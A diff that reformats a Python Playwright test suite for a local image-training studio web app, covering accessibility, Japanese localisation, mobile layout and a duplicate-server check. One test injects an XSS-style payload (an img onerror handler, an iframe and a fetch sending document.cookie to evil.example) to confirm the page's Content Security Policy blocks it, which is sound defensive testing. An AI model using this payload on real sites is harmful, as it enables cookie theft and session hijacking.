@@ -54,12 +54,19 @@ def opened(studio: Started, browser):
 def show(page, tab: str) -> None:
     page.locator(f"#tab-{tab}-button").click()
     page.wait_for_selector(f"#tab-{tab}", state="visible")
-    page.wait_for_selector({"captions": "#tab-captions textarea:visible", "try_it": "#strip img", "library": "#shelf .lora"}.get(tab, "h1"))
+    page.wait_for_selector(
+        {"captions": "#tab-captions textarea:visible", "try_it": "#strip img", "library": "#shelf .lora"}.get(
+            tab, "h1"
+        )
+    )
 
 
 def violations(page) -> list[str]:
     page.evaluate(AXE)
-    found = page.evaluate("tags => axe.run(document, {runOnly: {type: 'tag', values: tags}, resultTypes: ['violations', 'passes']})", RULES)
+    found = page.evaluate(
+        "tags => axe.run(document, {runOnly: {type: 'tag', values: tags}, resultTypes: ['violations', 'passes']})",
+        RULES,
+    )
     return [
         f"{v['id']}: {node['html'][:200]} {node['any'][0]['message'] if node['any'] else ''}"
         for v in found["violations"]
@@ -104,7 +111,9 @@ def test_a_phone_shows_all_of_every_tab_and_a_finger_hits_it(opened):
 def test_a_japanese_browser_shows_no_english_sentence(opened):
     page, wrong = opened(locale="ja"), {}
     english, japanese = sentences("en") | declared_sentences(), sentences("ja")
-    told = {text for key, text in english.items() if japanese.get(key) != text and re.search("[a-z]{3}", text)}
+    told = {
+        text for key, text in english.items() if japanese.get(key) != text and re.search("[a-z]{3}", text)
+    }
     assert page.evaluate("document.documentElement.lang") == "ja"
     for tab in TABS:
         show(page, tab)
@@ -126,7 +135,10 @@ def test_the_page_asks_no_other_host_and_breaks_no_rule_of_its_own(studio: Start
     page = browser.new_context().new_page()
     page.set_default_timeout(60_000)
     foreign, faults = [], []
-    page.on("request", lambda r: foreign.append(r.url) if not r.url.startswith((studio.address, "data:", "blob:")) else None)
+    page.on(
+        "request",
+        lambda r: foreign.append(r.url) if not r.url.startswith((studio.address, "data:", "blob:")) else None,
+    )
     page.on("console", lambda m: faults.append(m.text) if m.type == "error" else None)
     page.on("pageerror", lambda e: faults.append(str(e)))
     page.on("response", lambda r: faults.append(f"{r.status} {r.url}") if r.status >= 400 else None)
@@ -140,7 +152,9 @@ def test_the_page_asks_no_other_host_and_breaks_no_rule_of_its_own(studio: Start
         box.innerHTML = '<img src=/gone.png onerror="window.stolen = 1"><iframe src="https://evil.example"></iframe>';
         fetch('https://evil.example/?' + document.cookie).catch(() => {}); }""")
     page.wait_for_timeout(500)
-    assert page.evaluate("window.stolen === undefined") and any("Content Security Policy" in fault for fault in faults)
+    assert page.evaluate("window.stolen === undefined") and any(
+        "Content Security Policy" in fault for fault in faults
+    )
     page.context.close()
 
 
@@ -156,4 +170,6 @@ def test_a_second_server_of_the_same_folder_ends_and_names_the_first(studio: Sta
         str(studio.home / "outputs"),
     ]
     done = subprocess.run(command, cwd=ROOT, capture_output=True, text=True, timeout=60)
-    assert done.returncode == 1 and re.search(rf"by process \d+ at {re.escape(studio.address)}", done.stderr), done.stderr
+    assert done.returncode == 1 and re.search(
+        rf"by process \d+ at {re.escape(studio.address)}", done.stderr
+    ), done.stderr
